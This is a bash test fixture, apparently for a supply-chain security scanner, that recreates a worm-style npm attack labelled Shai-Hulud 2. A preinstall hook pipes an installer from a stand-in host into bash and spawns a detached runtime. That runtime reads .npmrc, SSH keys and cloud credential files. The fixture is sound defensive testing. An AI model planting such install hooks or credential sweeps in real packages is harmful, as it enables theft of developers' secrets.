#!/bin/bash
# A preinstall that fetches an installer, which fetches another runtime, which runs detached and looks for secrets.
#: tool npm
#: description a preinstall script pipes an installer into bash, which fetches another runtime; that runs on after the installation
#: project a project that installs one package
#: network none
#: home DIR/../../home
#: serve DIR/../../served
#: resolve bun.example=203.0.113.10
#: resolve files.example=203.0.113.11
#: finding foreign-runtime
#: finding pipe-to-interpreter
#: finding survivor
#: finding credential-sweep
#: decision fail
#: attack Shai-Hulud 2, November 2025
if [ "${1-}" = prepare ]; then
  echo '{"name":"app","version":"1.0.0","private":true}' > package.json
  mkdir -p ~/from/package && cd ~/from/package
  echo '{"name": "setup", "version": "1.0.0", "scripts": {"preinstall": "node setup_bun.js"}}' > package.json
  cat > setup_bun.js <<'END'
const { execSync, spawn } = require('node:child_process');
const { homedir } = require('node:os');
const { join } = require('node:path');
try { execSync('which bun', { stdio: 'ignore' }); } catch {}
execSync('curl -fsSL http://bun.example/install.sh | bash', { stdio: 'ignore' });
spawn(join(homedir(), '.bun/bin/bun'), [join(__dirname, 'environment.py')], { detached: true, stdio: 'ignore' }).unref();
END
  cat > environment.py <<'END'
import json, os, pathlib, time

home = pathlib.Path.home()
for each in (".npmrc", ".ssh/id_ed25519", ".aws/credentials", ".config/gcloud/application_default_credentials.json"):
    (home / each).read_bytes()
for each in ("cloud.json", "contents.json", "environment.json", "truffleSecrets.json", "actionsSecrets.json"):
    pathlib.Path(each).write_text("{}")
time.sleep(4)
END
  tar czf ~/setup.tgz -C .. package && rm -r ~/from
  exit
fi
npm install --no-audit --no-fund ~/setup.tgz
